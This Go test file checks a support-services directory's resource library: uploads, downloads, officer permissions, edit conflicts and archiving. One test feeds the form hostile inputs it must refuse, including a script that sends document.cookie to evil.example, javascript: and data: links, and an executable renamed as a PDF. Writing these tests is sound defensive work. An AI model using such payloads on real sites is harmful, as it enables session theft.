package server

import (
	"bytes"
	"context"
	"io"
	"mime/multipart"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"testing"

	"dadirectory/internal/access"
)

// postResourceForm sends the resource form as a browser does, with a file when name is not "".
func (u *user) postResourceForm(t *testing.T, path string, form url.Values, name string, content []byte) (*http.Response, string) {
	t.Helper()
	var buf bytes.Buffer
	mw := multipart.NewWriter(&buf)
	for k, vs := range form {
		for _, v := range vs {
			mw.WriteField(k, v)
		}
	}
	if name != "" {
		fw, _ := mw.CreateFormFile("file", name)
		fw.Write(content)
	} else {
		mw.CreateFormFile("file", "") // an empty file input, as browsers send it
	}
	mw.Close()
	req, _ := http.NewRequest(http.MethodPost, u.app.url+path, &buf)
	req.Header.Set("Content-Type", mw.FormDataContentType())
	req.Header.Set("Sec-Fetch-Site", "same-origin")
	resp, err := u.Client.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp, string(b)
}

func libResourceForm(title string) url.Values {
	return url.Values{"title": {title}, "summary": {"What it is."}, "kind": {"leaflet"}, "topics": {"housing", "getting-support"},
		"owner": {""}, "visibility": {"public"}}
}

func libTestPDF(size int) []byte {
	b := []byte("%PDF-1.4\n")
	for len(b) < size-6 {
		b = append(b, "% a line of a test document, nothing more\n"...)
	}
	return append(b, "%%EOF\n"...)
}

func (a *app) libCount(t *testing.T, sql string, args ...any) int {
	t.Helper()
	var n int
	if err := a.pool.QueryRow(context.Background(), sql, args...).Scan(&n); err != nil {
		t.Fatal(err)
	}
	return n
}

// An admin uploads a public PDF; the public find it and download it, byte for byte.
func TestLibraryAdminUploadsAndPublicDownloads(t *testing.T) {
	t.Parallel()
	a := newApp(t)
	admin := a.signIn(t, access.Admin, "")
	content := libTestPDF(700 << 10) // two chunks
	resp, _ := admin.postResourceForm(t, "/admin/resources/new", libResourceForm("Tenancy rights leaflet"), "Tenancy rights (2025).pdf", content)
	if resp.StatusCode != http.StatusSeeOther || resp.Header.Get("Location") != "/admin/resources" {
		t.Fatalf("create: %d %s", resp.StatusCode, resp.Header.Get("Location"))
	}
	_, body := admin.get(t, "/admin/resources")
	if !strings.Contains(body, "Resource added: Tenancy rights leaflet.") || !strings.Contains(body, "/admin/resources/tenancy-rights-leaflet/edit") {
		t.Error("list after create")
	}
	_, body = a.get(t, "/resources?q=tenancy")
	if !strings.Contains(body, `href="/resources/tenancy-rights-leaflet"`) || !strings.Contains(body, "PDF, 700 KB") {
		t.Error("public search misses the new resource")
	}
	resp, body = a.get(t, "/resources/tenancy-rights-leaflet/file")
	if resp.StatusCode != http.StatusOK || body != string(content) {
		t.Fatalf("download: %d, %d bytes", resp.StatusCode, len(body))
	}
	if cd := resp.Header.Get("Content-Disposition"); cd != `attachment; filename="Tenancy rights (2025).pdf"; filename*=UTF-8''Tenancy%20rights%20%282025%29.pdf` {
		t.Errorf("disposition %q", cd)
	}
	if cc := resp.Header.Get("Cache-Control"); cc != "private, max-age=300" {
		t.Errorf("public file cache %q", cc)
	}
	if len(resp.Cookies()) > 0 {
		t.Error("download sets a cookie")
	}
	resp, _ = a.do(t, http.MethodGet, "/resources/tenancy-rights-leaflet/file", nil, map[string]string{"If-None-Match": resp.Header.Get("ETag")})
	if resp.StatusCode != http.StatusNotModified {
		t.Errorf("If-None-Match: %d", resp.StatusCode)
	}
	resp, body = a.do(t, http.MethodHead, "/resources/tenancy-rights-leaflet/file", nil, nil)
	if resp.StatusCode != http.StatusOK || body != "" || resp.Header.Get("Content-Length") != strconv.Itoa(len(content)) {
		t.Errorf("HEAD: %d %q %s", resp.StatusCode, body, resp.Header.Get("Content-Length"))
	}
	if n := a.libCount(t, `SELECT count(*) FROM audit_events WHERE action = 'resource.create' AND after->>'title' = 'Tenancy rights leaflet'`); n != 1 {
		t.Errorf("audit events %d", n)
	}
}

// Bad input to the resource form: each refused with 422, a message by the field, every typed
// value kept, and nothing stored.
func TestLibraryFormRefusesBadInput(t *testing.T) {
	t.Parallel()
	a := newApp(t)
	admin := a.signIn(t, access.Admin, "")
	resources, files := a.libCount(t, `SELECT count(*) FROM resources`), a.libCount(t, `SELECT count(*) FROM resource_files`)
	html := []byte("<!DOCTYPE html><html><body><script>document.location='https://evil.example/?'+document.cookie</script></body></html>")
	exe := append([]byte("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"), make([]byte, 300)...)
	for name, tc := range map[string]struct {
		edit     func(url.Values)
		file     string
		content  []byte
		want     string
		wantCode int
	}{
		"javascript link":   {func(f url.Values) { f.Set("url", "javascript:alert(1)") }, "", nil, "javascript: or data:", 422},
		"data link":         {func(f url.Values) { f.Set("url", "data:text/html;base64,PHNjcmlwdD4=") }, "", nil, "javascript: or data:", 422},
		"vbscript link":     {func(f url.Values) { f.Set("url", "vbscript:msgbox") }, "", nil, "must start with https://", 422},
		"protocol relative": {func(f url.Values) { f.Set("url", "//evil.example/page") }, "", nil, "starting with https://", 422},
		"html renamed pdf":  {func(f url.Values) {}, "policy.pdf", html, "is a web page or script, not a document", 422},
		"exe":               {func(f url.Values) {}, "setup.exe", exe, "must be a PDF, Word, Excel", 422},
		"exe renamed pdf":   {func(f url.Values) {}, "setup.pdf", exe, "must be a PDF, Word, Excel", 422},
		"invalid utf8":      {func(f url.Values) { f.Set("title", "Guide \xff\xfe"); f.Set("url", "https://example.org") }, "", nil, "Title contains characters we cannot read", 422},
		"no link or file":   {func(f url.Values) {}, "", nil, "Enter a web address, or choose a file", 422},
		"both":              {func(f url.Values) { f.Set("url", "https://example.org") }, "a.pdf", libTestPDF(500), "not both", 422},
		"unknown owner":     {func(f url.Values) { f.Set("owner", "no-such-org"); f.Set("url", "https://example.org") }, "", nil, "Choose an organisation from the list", 422},
		// A little over 20 MB, within the body limit: refused by the library, with a message.
		"oversize file": {func(f url.Values) {}, "big.pdf", libTestPDF(20<<20 + 4096), "must be 20 MB or smaller", 422},
	} {
		form := libResourceForm("Typed title " + name)
		tc.edit(form)
		resp, body := admin.postResourceForm(t, "/admin/resources/new", form, tc.file, tc.content)
		if resp.StatusCode != tc.wantCode || !strings.Contains(body, tc.want) {
			t.Errorf("%s: %d, want %d with %q", name, resp.StatusCode, tc.wantCode, tc.want)
			continue
		}
		if !strings.Contains(body, "There is a problem") || !strings.Contains(body, `value="Typed title `) && name != "invalid utf8" {
			t.Errorf("%s: no error summary, or the typed title was lost", name)
		}
		if strings.Contains(body, "<script>document") {
			t.Errorf("%s: page echoes the file", name)
		}
	}
	// More than the upload limit: refused before it is read.
	resp, _ := admin.postResourceForm(t, "/admin/resources/new", libResourceForm("Huge"), "huge.pdf", libTestPDF(22<<20))
	if resp.StatusCode != http.StatusRequestEntityTooLarge {
		t.Errorf("huge upload: %d", resp.StatusCode)
	}
	if r, f := a.libCount(t, `SELECT count(*) FROM resources`), a.libCount(t, `SELECT count(*) FROM resource_files`); r != resources || f != files {
		t.Errorf("refused forms stored something: resources %d -> %d, files %d -> %d", resources, r, files, f)
	}
	// A refused form with a valid file asks for the file again.
	form := libResourceForm("")
	_, body := admin.postResourceForm(t, "/admin/resources/new", form, "good.pdf", libTestPDF(500))
	if !strings.Contains(body, "Enter title") || !strings.Contains(body, "Choose it again") {
		t.Error("refused form with a file does not ask for it again")
	}
}

// An RSL officer adds and changes their own organisation's resources only: the owner is
// theirs whatever the form says, and another organisation's resource is a 404.
func TestLibraryOfficerOwnResourcesOnly(t *testing.T) {
	t.Parallel()
	a := newApp(t)
	officer := a.signIn(t, access.RSLOfficer, "clyde-valley-housing-association")
	form := libResourceForm("Clyde Valley tenant leaflet")
	form.Set("owner", "link-group")
	form.Set("url", "https://example.org/cvha-leaflet")
	resp, _ := officer.postResourceForm(t, "/my/resources/new", form, "", nil)
	if resp.StatusCode != http.StatusSeeOther || resp.Header.Get("Location") != "/my/resources" {
		t.Fatalf("create: %d", resp.StatusCode)
	}
	if n := a.libCount(t, `SELECT count(*) FROM resources r JOIN agencies a ON a.id = r.owner_id
		WHERE r.slug = 'clyde-valley-tenant-leaflet' AND a.slug = 'clyde-valley-housing-association'`); n != 1 {
		t.Error("the officer's resource is not owned by their organisation")
	}
	_, body := officer.get(t, "/my/resources")
	if !strings.Contains(body, "Clyde Valley tenant leaflet") || strings.Contains(body, "Housing Domestic Abuse Policy") {
		t.Error("officer's list")
	}
	var version int
	a.pool.QueryRow(context.Background(), `SELECT version FROM resources WHERE slug = $1`, demoOtherResource).Scan(&version)
	other := libResourceForm("Taken over")
	other.Set("url", "https://evil.example/")
	other.Set("version", "1")
	for _, p := range []string{"/my/resources/" + demoOtherResource + "/edit", "/my/resources/dash-risk-checklist/edit"} {
		if resp, _ := officer.postResourceForm(t, p, other, "", nil); resp.StatusCode != http.StatusNotFound {
			t.Errorf("%s: %d", p, resp.StatusCode)
		}
	}
	for _, p := range []string{"/admin/resources/" + demoOtherResource + "/edit", "/admin/resources/new"} {
		if resp, _ := officer.postResourceForm(t, p, other, "", nil); resp.StatusCode != http.StatusNotFound {
			t.Errorf("%s: %d", p, resp.StatusCode)
		}
	}
	if resp, _ := officer.post(t, "/my/resources/"+demoOtherResource+"/archive", url.Values{"version": {"1"}, "confirm": {"1"}}); resp.StatusCode != http.StatusNotFound {
		t.Errorf("archive other: %d", resp.StatusCode)
	}
	if n := a.libCount(t, `SELECT count(*) FROM resources WHERE slug = $1 AND title = 'Housing Domestic Abuse Policy' AND version = $2 AND archived_at IS NULL`,
		demoOtherResource, version); n != 1 {
		t.Error("another organisation's resource changed")
	}
	// Their own, with a file larger than a plain form may send: the edit form takes uploads.
	_, page := officer.get(t, "/my/resources/"+demoOwnResource+"/edit")
	mine := libResourceForm("Clyde Valley domestic abuse policy")
	mine.Set("version", libHiddenValue(t, page, "version"))
	mine.Set("original", libHiddenValue(t, page, "original"))
	resp, _ = officer.postResourceForm(t, "/my/resources/"+demoOwnResource+"/edit", mine, "policy.pdf", libTestPDF(3<<20))
	if resp.StatusCode != http.StatusSeeOther {
		t.Errorf("officer's upload to own resource: %d", resp.StatusCode)
	}
	if n := a.libCount(t, `SELECT count(*) FROM resources r JOIN resource_files f ON f.id = r.file_id
		WHERE r.slug = $1 AND r.url IS NULL AND f.size > 3000000`, demoOwnResource); n != 1 {
		t.Error("the upload did not replace the link")
	}
	// The resource page offers to change their own, not another's.
	if _, body := officer.get(t, "/resources/"+demoOwnResource); !strings.Contains(body, "/my/resources/"+demoOwnResource+"/edit") {
		t.Error("no change link on own resource")
	}
	if _, body := officer.get(t, "/resources/"+demoOtherResource); strings.Contains(body, "/edit") {
		t.Error("change link on another organisation's resource")
	}
}

// A save from a form opened before someone else's is refused with 409: their change shown,
// this person's typing kept, nothing written. Archive asks first, and hides the resource.
func TestLibraryEditConflictAndArchive(t *testing.T) {
	t.Parallel()
	a := newApp(t)
	admin := a.signIn(t, access.Admin, "")
	_, page := admin.get(t, "/admin/resources/where-to-get-help-leaflet/edit")
	original := libHiddenValue(t, page, "original")
	form := libResourceForm("Where to get help (their version)")
	form.Set("url", "https://example.org/north-lanarkshire/where-to-get-help-leaflet")
	form.Set("version", "1")
	form.Set("original", original)
	if resp, _ := admin.postResourceForm(t, "/admin/resources/where-to-get-help-leaflet/edit", form, "", nil); resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("first save: %d", resp.StatusCode)
	}
	mine := libResourceForm("Where to get help")
	mine.Set("summary", "My new summary.")
	mine.Set("url", "https://example.org/north-lanarkshire/where-to-get-help-leaflet")
	mine.Set("version", "1")
	mine.Set("original", original)
	resp, body := admin.postResourceForm(t, "/admin/resources/where-to-get-help-leaflet/edit", mine, "", nil)
	if resp.StatusCode != http.StatusConflict || !strings.Contains(body, "Someone else saved changes") ||
		!strings.Contains(body, "My new summary.") || !strings.Contains(body, "Where to get help (their version)") {
		t.Fatalf("stale save: %d", resp.StatusCode)
	}
	if n := a.libCount(t, `SELECT count(*) FROM resources WHERE slug = 'where-to-get-help-leaflet' AND summary = 'My new summary.'`); n != 0 {
		t.Error("stale save written")
	}
	// Archive: the edit page links to the question, which names the resource; the answer archives.
	_, body = admin.get(t, "/admin/resources/where-to-get-help-leaflet/edit")
	if !strings.Contains(body, `href="/admin/resources/where-to-get-help-leaflet/archive"`) {
		t.Fatal("edit page does not link to the archive question")
	}
	resp, body = admin.get(t, "/admin/resources/where-to-get-help-leaflet/archive")
	if resp.StatusCode != http.StatusOK || !strings.Contains(body, "It will no longer be shown in the library") || !strings.Contains(body, "Yes, archive it") {
		t.Fatalf("ask: %d\n%s", resp.StatusCode, body)
	}
	form, ok := scrapeForm(body, "/admin/resources/where-to-get-help-leaflet/archive")
	if !ok {
		t.Fatal("no confirmation form")
	}
	// A post without the confirmation only asks.
	resp, _ = admin.post(t, "/admin/resources/where-to-get-help-leaflet/archive", url.Values{"ask": {"1"}, "version": form["version"]})
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("unconfirmed: %d", resp.StatusCode)
	}
	resp, _ = admin.post(t, "/admin/resources/where-to-get-help-leaflet/archive", form)
	if resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("archive: %d", resp.StatusCode)
	}
	_, list := admin.get(t, "/admin/resources")
	undo, ok := scrapeForm(list, "/admin/resources/where-to-get-help-leaflet/restore")
	if !ok || !strings.Contains(list, "Resource archived: ") || !strings.Contains(list, "Undo: restore") {
		t.Fatalf("no undo after archiving:\n%s", list)
	}
	if resp, _ := a.get(t, "/resources/where-to-get-help-leaflet"); resp.StatusCode != http.StatusNotFound {
		t.Errorf("archived resource public: %d", resp.StatusCode)
	}
	if _, body := a.get(t, "/resources"); strings.Contains(body, "where-to-get-help-leaflet") {
		t.Error("archived resource listed")
	}
	if resp, body := admin.get(t, "/resources/where-to-get-help-leaflet"); resp.StatusCode != http.StatusOK || !strings.Contains(body, "Archived") {
		t.Errorf("admin view of archived: %d", resp.StatusCode)
	}
	if n := a.libCount(t, `SELECT count(*) FROM audit_events WHERE action IN ('resource.update', 'resource.archive')
		AND entity_id = (SELECT id FROM resources WHERE slug = 'where-to-get-help-leaflet')`); n != 2 {
		t.Errorf("audit events %d", n)
	}
	resp, _ = admin.post(t, "/admin/resources/where-to-get-help-leaflet/restore", undo)
	if resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("undo: %d", resp.StatusCode)
	}
	if resp, _ := a.get(t, "/resources/where-to-get-help-leaflet"); resp.StatusCode != http.StatusOK {
		t.Errorf("resource after undo: %d", resp.StatusCode)
	}
}

func TestLibraryTopicsAdmin(t *testing.T) {
	t.Parallel()
	a := newApp(t)
	admin := a.signIn(t, access.Admin, "")
	resp, _ := admin.post(t, "/admin/resource-topics", url.Values{"name": {"Stalking"}})
	if resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("add: %d", resp.StatusCode)
	}
	resp, body := admin.post(t, "/admin/resource-topics", url.Values{"name": {"stalking"}})
	if resp.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(body, "There is already a topic called stalking") ||
		!strings.Contains(body, `href="#new-topic-name"`) {
		t.Errorf("duplicate: %d", resp.StatusCode)
	}
	resp, body = admin.post(t, "/admin/resource-topics/stalking", url.Values{"name": {"Stalking and harassment"}, "version": {"9"}})
	if resp.StatusCode != http.StatusConflict || !strings.Contains(body, "Someone else changed this topic") || !strings.Contains(body, `value="Stalking and harassment"`) {
		t.Errorf("stale: %d", resp.StatusCode)
	}
	resp, _ = admin.post(t, "/admin/resource-topics/stalking", url.Values{"name": {"Stalking and harassment"}, "version": {"1"}, "retired": {"1"}})
	if resp.StatusCode != http.StatusSeeOther {
		t.Errorf("save: %d", resp.StatusCode)
	}
	if _, body := admin.get(t, "/admin/resources/new"); strings.Contains(body, "Stalking and harassment") {
		t.Error("retired topic offered")
	}
}

// libHiddenValue is the value of the first hidden input called name in page.
func libHiddenValue(t *testing.T, page, name string) string {
	t.Helper()
	marker := `name="` + name + `" value="`
	i := strings.Index(page, marker)
	if i < 0 {
		t.Fatalf("no hidden %s", name)
	}
	rest := page[i+len(marker):]
	v := rest[:strings.IndexByte(rest, '"')]
	return strings.NewReplacer("&#34;", `"`, "&quot;", `"`, "&amp;", "&", "&lt;", "<", "&gt;", ">", "&#39;", "'").Replace(v)
}
